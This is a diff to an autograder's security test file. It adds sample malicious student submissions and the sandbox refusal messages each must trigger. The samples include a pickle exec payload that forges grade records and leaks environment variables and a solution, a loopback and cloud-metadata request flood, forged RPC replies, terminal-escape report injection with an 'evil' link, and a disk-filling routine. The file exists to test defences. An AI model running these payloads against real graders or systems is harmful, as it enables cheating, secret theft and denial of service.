@@ -15,7 +15,18 @@ import time
 import zipfile
 from pathlib import Path
 
-from tests.meta.synthetic import LAB01_SOLUTION, LAB01_UNTOUCHED, LAB02_SOLUTION, LAB02_UNTOUCHED, MAX_SCORE
+from tests.meta.synthetic import (
+    LAB01_SOLUTION,
+    LAB01_UNTOUCHED,
+    LAB02_SOLUTION,
+    LAB02_UNTOUCHED,
+    LAB03_SOLUTION,
+    LAB03_UNTOUCHED,
+    MAX_SCORE,
+    TYPED_POINTS,
+)
+
+ATTACKED_MAX = MAX_SCORE + sum(TYPED_POINTS.values())  # the attacks' course has the typed lab 03 too
 
 # Helpers every attack may use: take the solution's text if it was read, forge records.
 PRELUDE = '''
@@ -341,6 +352,168 @@ for _rel in ("tests/labs/test_lab01_demo.py", "tests/conftest.py", "pyproject.to
 """,
 }
 
+# Attacks on the channel between the tests and the worker (issue 29): code in the lab's process that used to
+# get the trusted test process to run what it asked. The reason each one fails must be in the notes
+# (``REASONS``: a regular expression), in both isolation modes.
+CHANNEL_ATTACKS: dict[str, tuple[str, str]] = {
+    # lab 03's test hands parse_ticket its pydantic class; a pickle given to that class's parse_raw once ran
+    # in the trusted process: it forged results and sent the grader's environment and a solution out
+    "pickle_in_trusted": (
+        "lab03_typed",
+        r"""
+import pickle as _pickle
+
+
+class _Payload:
+    def __reduce__(self):
+        code = (
+            "import os, json, glob\n"
+            "stolen = ''\n"
+            "try:\n    stolen = open(%r).read()\n"
+            "except Exception as exc:\n    stolen = repr(exc)\n"
+            "for path in glob.glob('/tmp/course-grade-*/private/state-*/records.jsonl') + glob.glob(%r):\n"
+            "    open(path, 'a').write(%r)\n"
+            "raise RuntimeError('EXFIL ' + json.dumps(dict(os.environ)) + ' ' + stolen[:3000])\n"
+        ) % (_SOLUTION3, _OUT + "/*", _FORGED)
+        return (exec, (code,))
+
+
+def parse_ticket(text, model):
+    return model.parse_raw(_pickle.dumps(_Payload()), content_type="application/pickle", allow_pickle=True)
+""",
+    ),
+    # the tests' class patched from the lab (setattr was served on it): every comparison with it said equal
+    "setattr_trusted_class": (
+        "lab03_typed",
+        r"""
+def parse_ticket(text, model):
+    model.__eq__ = lambda self, other: True
+    type.__setattr__(model, "__ne__", lambda self, other: False)
+    return model.model_construct(subject="anything", priority=99)
+""",
+    ),
+    # the tests' client pointed at every server on loopback (with_options(base_url=...) was served): the stub
+    # of a classmate graded beside it got the flood
+    "ssrf_through_client": (
+        "lab01_demo",
+        r"""
+def greet(client, model, name):
+    import re as _re
+    ports = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        try:
+            for line in open(table).read().splitlines()[1:]:
+                parts = line.split()
+                if parts[3] == "0A":
+                    ports.add(int(parts[1].rsplit(":", 1)[1], 16))
+        except Exception:
+            pass
+    own = int(_re.search(r":(\d+)", str(client.base_url)).group(1))
+    ports.update(range(own - 20, own + 20))
+    for port in sorted(ports):
+        for base in (f"http://127.0.0.1:{port}/v1", f"http://localhost:{port}/_stub", "http://169.254.169.254/"):
+            for _ in range(3):
+                try:
+                    client.with_options(base_url=base).chat.completions.create(
+                        model=model, messages=[{"role": "user", "content": "flood"}]
+                    )
+                except Exception:
+                    pass
+    raise NotImplementedError
+""",
+    ),
+    # replies written into the channel for requests the tests had not made yet: they answered those requests
+    "forged_replies": (
+        "lab01_demo",
+        r"""
+import gc as _gc
+
+for _peer in [o for o in _gc.get_objects() if type(o).__name__ == "WorkerPeer"]:
+    for _rid in range(1, 400):
+        try:
+            _sys.modules["rpc"].send_message(_peer.sock, _peer.send_lock, {"kind": "ret", "re": _rid, "v": "forged"})
+        except Exception:
+            break
+""",
+    ),
+    # an interrupt, and an exception pytest's report step cannot read, were recorded as passes
+    "interrupt_in_report": (
+        "lab01_demo",
+        r"""
+def add(a, b):
+    raise KeyboardInterrupt("stop the grader here")
+
+
+def greet(client, model, name):
+    raise ModuleNotFoundError("labs.forged", name=12345)
+""",
+    ),
+    # escape sequences that redraw the instructor's terminal, machine paths, and 50,000-character messages
+    "report_injection": (
+        "lab01_demo",
+        r"""
+_ESC = chr(27)
+
+
+def add(a, b):
+    import gc
+    for peer in [o for o in gc.get_objects() if type(o).__name__ == "WorkerPeer"]:
+        peer.where = lambda exc: ["/etc/passwd" + _ESC + "[31m", -1, _ESC + "]0;pwned" + chr(7)]
+    raise ValueError(
+        _ESC + "[2J" + _ESC + "[H" + _ESC + "[32m  full: 439 / 439" + _ESC + "[0m\r" + chr(0x202E) + " "
+        + _COURSE + " " + _SOLUTION + " /submission/labs/lab01_demo.py " + _OUT + " " + "A" * 50000
+    )
+
+
+def greet(client, model, name):
+    for _ in range(300):
+        try:
+            open("/" + _ESC + "[2J" + _ESC + "[H 439 / 439 " + "x" * 200 + str(_))
+        except Exception:
+            pass
+    raise ValueError(_ESC + "]8;;http://evil/" + chr(7) + "click" + _ESC + "]8;;" + chr(7) + "B" * 60000)
+""",
+    ),
+    # gigabytes written to the worker's scratch folder, its temporary folders and shared memory
+    "disk_fill": (
+        "lab01_demo",
+        r"""
+def add(a, b):
+    import ctypes
+    libc = ctypes.CDLL(None)
+    chunk = b"x" * (1 << 20)
+    folders = [_os.environ.get("HOME", "."), _os.environ.get("TMPDIR", "."), "/tmp", "/var/tmp", "/dev/shm"]
+    for folder in folders:
+        for i in range(40):
+            path = f"{folder}/fill-{_os.getpid()}-{i}".encode()
+            fd = libc.open(path, _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o644)
+            if fd < 0:
+                break
+            written = 0
+            for _ in range(48):
+                n = libc.write(fd, chunk, len(chunk))
+                if n <= 0:
+                    break
+                written += n
+            libc.close(fd)
+            if written < 48 * len(chunk):
+                break
+    raise NotImplementedError
+""",
+    ),
+}
+
+# What the notes must say for each channel attack (a regular expression).
+REASONS = {
+    "pickle_in_trusted": r"blocked by the grading sandbox: tried to (read|write) ",
+    "setattr_trusted_class": r"",
+    "ssrf_through_client": r"refused: send a request to http://(127\.0\.0\.1|localhost|169)",
+    "forged_replies": r"broke the grading protocol \(an answer to a request that was never made",
+    "interrupt_in_report": r"lab code raised KeyboardInterrupt",
+    "report_injection": r"blocked by the grading sandbox: tried to read",
+    "disk_fill": r"(more than the \d+ MB of its scratch space|wrote more than \d+ MB to disk)",
+}
+
 
 def _write(path: Path, text: str) -> Path:
     path.parent.mkdir(parents=True, exist_ok=True)
@@ -348,22 +521,30 @@ def _write(path: Path, text: str) -> Path:
     return path
 
 
-def _labs(folder: Path, lab01: str, lab02: str) -> Path:
+def _labs(folder: Path, lab01: str, lab02: str, lab03: str | None = None) -> Path:
     _write(folder / "labs/lab01_demo.py", lab01)
     _write(folder / "labs/lab02_more.py", lab02)
+    if lab03 is not None:
+        _write(folder / "labs/lab03_typed.py", lab03)
     return folder
 
 
 def attack_submissions(where: Path, course: Path, out: Path) -> dict[str, tuple[Path, int]]:
-    """name -> (path, exact expected score). ``full`` (15) runs beside them as the classmate to harm."""
+    """name -> (path, exact expected score), for the course ``make_course(..., typed=True)``. ``full`` (all
+    the points) runs beside them as the classmate to harm."""
     fill = {"COURSE": str(course), "OUT": str(out), "SOLUTION": str(course / "solutions/lab01_demo.py")}
+    prelude = PRELUDE.format(**fill) + f"_SOLUTION3 = {str(course / 'solutions/lab03_typed.py')!r}\n"
     subs: dict[str, tuple[Path, int]] = {
-        "full": (_labs(where / "full", LAB01_SOLUTION, LAB02_SOLUTION), MAX_SCORE)
+        "full": (_labs(where / "full", LAB01_SOLUTION, LAB02_SOLUTION, LAB03_SOLUTION), ATTACKED_MAX)
     }
     for name, code in ATTACKS.items():
         prize = f"_FORK_BOMB_PRIZE = {LAB01_SOLUTION!r}\n" if name == "fork_bomb" else ""
-        lab01 = textwrap.dedent(LAB01_UNTOUCHED) + PRELUDE.format(**fill) + prize + textwrap.dedent(code)
-        subs[name] = (_labs(where / name, lab01, LAB02_UNTOUCHED), 0)
+        lab01 = textwrap.dedent(LAB01_UNTOUCHED) + prelude + prize + textwrap.dedent(code)
+        subs[name] = (_labs(where / name, lab01, LAB02_UNTOUCHED, LAB03_UNTOUCHED), 0)
+    for name, (lab, code) in CHANNEL_ATTACKS.items():
+        labs = {"lab01_demo": LAB01_UNTOUCHED, "lab03_typed": LAB03_UNTOUCHED}
+        labs[lab] = textwrap.dedent(labs[lab]) + prelude + textwrap.dedent(code)
+        subs[name] = (_labs(where / name, labs["lab01_demo"], LAB02_UNTOUCHED, labs["lab03_typed"]), 0)
     # keep the classmate running while the /proc and stub attacks look for it
     order = ["proc_classmate", "full", "stub_faults"]
     return {k: subs[k] for k in order + [k for k in subs if k not in order]}
